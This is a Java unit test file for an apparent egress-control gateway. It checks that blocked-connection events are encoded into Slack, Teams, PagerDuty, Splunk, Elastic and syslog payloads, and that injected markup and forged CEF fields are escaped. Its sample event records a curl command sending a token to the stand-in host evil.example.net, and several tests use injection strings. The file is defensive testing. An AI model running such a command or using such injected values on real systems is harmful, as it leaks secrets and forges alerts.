package io.fleetwall.gateway.sink;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.fleetwall.gateway.condition.Severity;
import io.fleetwall.gateway.config.GatewayConfig.Format;
import io.fleetwall.gateway.config.GatewayConfig.Target;
import io.fleetwall.gateway.config.Secret;
import io.fleetwall.gateway.config.Tuning;
import io.vertx.core.json.Json;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * The payloads under docs/events/samples are what the code makes; {@code -Dsamples} writes them.
 */
final class PayloadTest {
    private static final Map<String, String> LINKS =
            Map.of("run", "https://github.com/{{job.repository}}/actions/runs/{{job.runId}}");

    static JsonObject denied() {
        return new JsonObject()
                .put("id", "019a9c3e-7c00-7abc-8def-0123456789ab")
                .put("at", "2026-11-22T10:00:00.123Z")
                .put("received", "2026-11-22T10:00:00.160Z")
                .put("kind", "flow.denied")
                .put("node", "node-7")
                .put("runner", "runner-a")
                .put("labels", new JsonArray().add("linux").add("x64"))
                .put("severity", "high")
                .put("job", job())
                .put("process", process())
                .put(
                        "destination",
                        new JsonObject()
                                .put("address", "203.0.113.66")
                                .put("port", 443)
                                .put("protocol", "tcp")
                                .put("name", "evil.example.net")
                                .put("nameFrom", "dns-answer")
                                .put("chain", new JsonArray().add("cdn.example.net")))
                .put(
                        "judgement",
                        new JsonObject()
                                .put("verdict", "denied")
                                .put("reason", "denied-by-rule")
                                .put("mode", "enforce")
                                .put("revision", 4)
                                .put("policy", "acme")
                                .put("rule", "deny host *.example.net")
                                .put("file", "acme.yaml")
                                .put("line", 12))
                .put("count", 3)
                .put("windowMillis", 5_000)
                .put("message", "blocked tcp to 203.0.113.66 port 443 | a=b <!here> [x](y)");
    }

    private static JsonObject job() {
        return new JsonObject()
                .put("organization", "acme")
                .put("repository", "acme/api-service")
                .put("workflow", "build.yml")
                .put("job", "test")
                .put("ref", "refs/heads/main")
                .put("runId", "4711")
                .put("attempt", 1)
                .put("actor", "eve");
    }

    private static JsonObject process() {
        JsonObject parent = new JsonObject().put("pid", 12).put("name", "bash");
        return new JsonObject()
                .put("summary", "curl (pid 4711, uid 1000, parents bash)")
                .put("pid", 4711)
                .put("uid", 1000)
                .put("name", "curl")
                .put("executable", "/usr/bin/curl")
                .put("command", "curl --token *** https://evil.example.net")
                .put("parents", new JsonArray().add(parent));
    }

    static JsonObject fleet() {
        return new JsonObject()
                .put("id", "019a9c3e-7c01-7abc-8def-0123456789ab")
                .put("at", "2026-11-22T10:00:01Z")
                .put("received", "2026-11-22T10:00:01Z")
                .put("kind", "policy.published")
                .put("severity", "info")
                .put("count", 1)
                .put("message", "revision 5 published");
    }

    static Due due(JsonObject event, Incident.Act act) {
        return new Due(
                event.getString("id"),
                "sample",
                event,
                new Incident("019a9c3e-7c02-7abc-8def-0123456789ab", act, 3, ""),
                event.getLong("count"),
                1_795_341_600_160L,
                1);
    }

    static Target target(Format format, Tuning.Shape shape) {
        Tuning usual = Tuning.of(format);
        return new Target(
                "sample",
                format,
                new Secret("https://receiver.example/"),
                Optional.of(new Secret("sample-key")),
                Set.of("*"),
                new Tuning(
                        new Tuning.Wanted(Optional.empty(), Severity.INFO),
                        new Tuning.Form(shape, Optional.empty(), Map.of(), Map.of()),
                        usual.pace(),
                        Optional.empty()));
    }

    @ParameterizedTest
    @CsvSource({
        "slack, SLACK, NATIVE",
        "teams, TEAMS, NATIVE",
        "pagerduty, PAGERDUTY, NATIVE",
        "generic, GENERIC, NATIVE",
        "cloudevents, GENERIC, CLOUDEVENTS",
        "splunk, SPLUNK, NATIVE",
        "splunk-ocsf, SPLUNK, OCSF",
        "elastic, ELASTIC, ECS",
        "otlp, OTLP, NATIVE",
        "syslog, SYSLOG, NATIVE",
        "file, FILE, NATIVE",
        "file-ocsf, FILE, OCSF"
    })
    void thePayloadIsTheOneInTheDocumentation(String name, Format format, Tuning.Shape shape)
            throws IOException {
        Encoding encoding = new Encoding(target(format, shape), LINKS);
        List<Due> all =
                format.streams()
                        ? List.of(due(denied(), Incident.Act.OPEN), due(fleet(), Incident.Act.OPEN))
                        : List.of(due(denied(), Incident.Act.OPEN));
        compare(name, encoding.of(all).body());
    }

    @Test
    void theEndOfAnIncidentIsTheOneInTheDocumentation() throws IOException {
        Encoding encoding = new Encoding(target(Format.PAGERDUTY, Tuning.Shape.NATIVE), LINKS);
        compare(
                "pagerduty-resolve",
                encoding.of(List.of(due(denied(), Incident.Act.RESOLVE))).body());
    }

    private static Target batching(Tuning.Shape shape) {
        Target usual = target(Format.GENERIC, shape);
        Tuning tuning = usual.tuning();
        return new Target(
                usual.name(),
                usual.format(),
                usual.url(),
                usual.secret(),
                usual.kinds(),
                new Tuning(
                        tuning.wanted(),
                        tuning.form(),
                        new Tuning.Pace(Tuning.Each.EVENT, 10, 1),
                        Optional.empty()));
    }

    @ParameterizedTest
    @CsvSource({
        "NATIVE, application/json, application/json",
        "CLOUDEVENTS, application/cloudevents+json, application/cloudevents-batch+json"
    })
    void aBatchIsTheListOfWhatIsSentOneByOne(Tuning.Shape shape, String one, String many) {
        List<Due> all = List.of(due(denied(), Incident.Act.OPEN), due(fleet(), Incident.Act.OPEN));
        Encoding single = new Encoding(target(Format.GENERIC, shape), LINKS);
        Encoding batch = new Encoding(batching(shape), LINKS);
        assertEquals(1, single.together());
        assertEquals(10, batch.together());
        assertEquals(one, single.of(all.subList(0, 1)).contentType());
        assertEquals(many, batch.of(all).contentType());
        JsonArray list = new JsonArray();
        all.forEach(due -> list.add(new JsonObject(text(single.of(List.of(due))))));
        assertEquals(list, new JsonArray(text(batch.of(all))));
    }

    private static String text(Parcel parcel) {
        return new String(parcel.body(), StandardCharsets.UTF_8);
    }

    /** One JSON document is shown indented. */
    private static void compare(String name, byte[] body) throws IOException {
        String text = new String(body, StandardCharsets.UTF_8);
        boolean one = text.startsWith("{") && text.indexOf('\n') < 0;
        boolean lines = text.startsWith("{") && !one;
        String shown = one ? new JsonObject(text).encodePrettily() + "\n" : text;
        String kind = one ? ".json" : lines ? ".ndjson" : ".txt";
        Path file = Path.of("..", "docs", "events", "samples", name + kind);
        if (System.getProperty("samples") != null) {
            Files.createDirectories(file.getParent());
            Files.writeString(file, shown);
        }
        assertEquals(Files.readString(file), shown, "run with -Dsamples to write it anew");
    }

    @Test
    void whatAJobChoosesCannotBecomeMarkupInAMessage() {
        Due due = due(denied(), Incident.Act.OPEN);
        String slack = SlackMessage.of(due, List.of()).encode();
        assertFalse(slack.contains("<!here>"), slack);
        String teams = TeamsCard.of(due, List.of()).encode();
        assertFalse(teams.contains("[x](y)"), teams);
    }

    @Test
    void whatAJobChoosesCannotEndAFieldOfTheCommonEventFormat() {
        JsonObject event =
                denied().put("message", "x\nCEF:0|a|b act=allowed \\").put("kind", "a|b");
        String line = CefLine.of(due(event, Incident.Act.OPEN));
        assertTrue(line.contains("|a\\|b|"), line);
        assertTrue(line.endsWith("msg=x\\nCEF:0|a|b act\\=allowed \\\\"), line);
        assertEquals(1, line.lines().count());
    }

    @Test
    void aFrameOfSyslogStatesItsLengthInBytesAndIsNeverLongerThanReceiversTake() {
        JsonObject event = denied().put("message", "ü".repeat(9_000));
        byte[] framed = SyslogMessage.framed(List.of(due(event, Incident.Act.OPEN)));
        String text = new String(framed, StandardCharsets.UTF_8);
        String length = text.substring(0, text.indexOf(' '));
        assertEquals(framed.length - length.length() - 1, Integer.parseInt(length));
        assertTrue(Integer.parseInt(length) <= 8_192, length);
        assertFalse(text.contains("\ufffd"));
    }

    @Test
    void aTemplateEscapesItsValuesAndKeepsTheRest() {
        JsonObject event = denied().put("message", "a \"quote\" and \\ {{kind}} $1");
        String text = Template.json("{\"t\": \"{{ message }} {{nothing}}\"}", new Facts(event));
        assertEquals("a \"quote\" and \\ {{kind}} $1 ", new JsonObject(text).getString("t"));
    }

    @Test
    void aLinkWithoutItsValueIsLeftOutAndValuesCannotChangeTheAddress() {
        JsonObject event = denied();
        event.getJsonObject("job").put("repository", "acme/a?b#c&d").put("runId", "");
        assertEquals(List.of(), Links.of(LINKS, new Facts(event)));
        event.getJsonObject("job").put("runId", "7");
        assertEquals(
                "https://github.com/acme/a%3Fb%23c%26d/actions/runs/7",
                Links.of(LINKS, new Facts(event)).getFirst().address());
    }

    @Test
    void everyLineForElasticIsJsonAndItsIdIsTheEvents() {
        Encoding encoding = new Encoding(target(Format.ELASTIC, Tuning.Shape.ECS), LINKS);
        byte[] body = encoding.of(List.of(due(denied(), Incident.Act.OPEN))).body();
        String[] lines = new String(body, StandardCharsets.UTF_8).split("\n", -1);
        assertEquals(3, lines.length);
        assertEquals("", lines[2]);
        JsonObject create = new JsonObject(lines[0]).getJsonObject("create");
        assertEquals(denied().getString("id"), create.getString("_id"));
        assertTrue(Json.decodeValue(lines[1]) instanceof JsonObject);
    }
}
